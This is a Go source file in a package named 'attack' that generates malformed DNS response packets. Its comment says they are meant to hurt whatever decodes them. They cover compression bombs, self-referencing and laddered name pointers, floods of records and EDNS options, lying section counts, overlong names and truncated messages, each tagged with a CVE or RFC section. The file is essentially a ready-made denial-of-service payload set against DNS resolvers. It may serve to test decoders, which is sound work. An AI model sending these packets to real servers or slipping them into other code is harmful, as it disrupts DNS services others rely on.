package attack

import (
	"encoding/binary"
	"strings"
)

// Packet is a message that is meant to hurt whoever decodes it.
type Packet struct {
	Name   string
	Origin string
	Octets []byte
}

// question is "a.evil.com. A" in wire form; in a message it stands at offset 12.
const question = "\x01a\x04evil\x03com\x00\x00\x01\x00\x01"

// toQuestion is a pointer to its name.
const toQuestion = "\xc0\x0c"

// Malformed are messages of up to 64 KiB, over TCP therefore, that cost as much
// as messages can.
func Malformed() []Packet {
	label := "\x3f" + strings.Repeat("a", 63)
	long := label + label + label + "\x3d" + strings.Repeat("a", 61) + "\x00" // 255 octets
	return []Packet{
		{"compression bomb", "CVE-2024-8508", packet(1, 5000, 0, long+"\x00\x01\x00\x01"+repeat(5000, func(int) string { return rr("\x00", 2, toQuestion) }))},
		{"a type for every RR", "CVE-2024-1737", packet(1, 4000, 0, question+repeat(4000, func(i int) string { return rr(toQuestion, uint16(100+i), "x") }))},
		{"distinct owners", "CVE-2023-4408", packet(1, 3400, 0, question+repeat(3400, func(i int) string { return rr("\x02"+two(i)+toQuestion, 1, "\x7f\x00\x00\x01") }))},
		{"one large set", "CVE-2024-1737", packet(1, 4000, 0, question+repeat(4000, func(i int) string { return rr(toQuestion, 1, "\x0a\x00"+two(i)) }))},
		{"one RR again and again", "CVE-2024-1737", packet(1, 4000, 0, question+repeat(4000, func(int) string { return rr(toQuestion, 1, "\x0a\x00\x00\x01") }))},
		{"pointer to itself", "RFC 9267 2", packet(1, 0, 0, "\xc0\x0c\x00\x01\x00\x01")},
		{"pointers to each other", "RFC 9267 2", packet(2, 0, 0, "\xc0\x12\x00\x01\x00\x01\xc0\x0c\x00\x01\x00\x01")},
		{"pointer ahead", "RFC 9267 2", packet(1, 0, 0, "\xc0\xff"+strings.Repeat("\x00", 300))},
		{"pointer ladder", "CVE-2026-44390", packet(1, 2, 0, question+ladder(2000))},
		{"counts that lie", "RFC 9267 6", packet(0xffff, 0xffff, 0xffff, question)},
		{"options by the thousand", "CVE-2026-41292", packet(1, 0, 1, question+rr("\x00", 41, repeat(5000, func(int) string { return "\x00\x0a\x00\x00" })))},
		{"OPT after OPT", "RFC 6891 6.1.1", packet(1, 0, 3000, question+repeat(3000, func(int) string { return rr("\x00", 41, "") }))},
		{"name of 300 octets", "RFC 9267 3", packet(1, 0, 0, strings.Repeat(label, 5)+"\x00\x00\x01\x00\x01")},
		{"rdata behind the end", "RFC 9267 5", packet(1, 1, 0, question+toQuestion+"\x00\x01\x00\x01\x00\x00\x00\x01\xff\xff")},
		{"question only, cut", "CVE-2026-42389", packet(1, 0, 0, question)[:20]},
	}
}

// packet is a response with these counts, and sections as the body has them.
func packet(questions, answers, additional uint16, body string) []byte {
	b := []byte{0, 1, 0x84, 0}
	for _, n := range []uint16{questions, answers, 0, additional} {
		b = binary.BigEndian.AppendUint16(b, n)
	}
	return append(b, body...)
}

// rr is an RR of class IN.
func rr(owner string, t uint16, rdata string) string {
	b := binary.BigEndian.AppendUint16([]byte(owner), t)
	b = append(b, 0, 1, 0, 0, 0, 60)
	b = binary.BigEndian.AppendUint16(b, uint16(len(rdata)))
	return string(b) + rdata
}

// ladder is an RR whose rdata is pointers to the pointer before, and an RR that
// has the last of them as its owner.
func ladder(rungs int) string {
	at := 12 + len(question) + len(toQuestion) + 10 // of the first rung
	b := []byte(toQuestion)
	for i := range rungs - 1 {
		b = binary.BigEndian.AppendUint16(b, uint16(0xc000|at+2*i))
	}
	last := binary.BigEndian.AppendUint16(nil, uint16(0xc000|at+2*(rungs-1)))
	return rr(toQuestion, 1000, string(b)) + rr(string(last), 1, "\x0a\x00\x00\x01")
}

func two(i int) string { return string([]byte{byte(i >> 8), byte(i)}) }

func repeat(n int, f func(int) string) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(f(i))
	}
	return b.String()
}
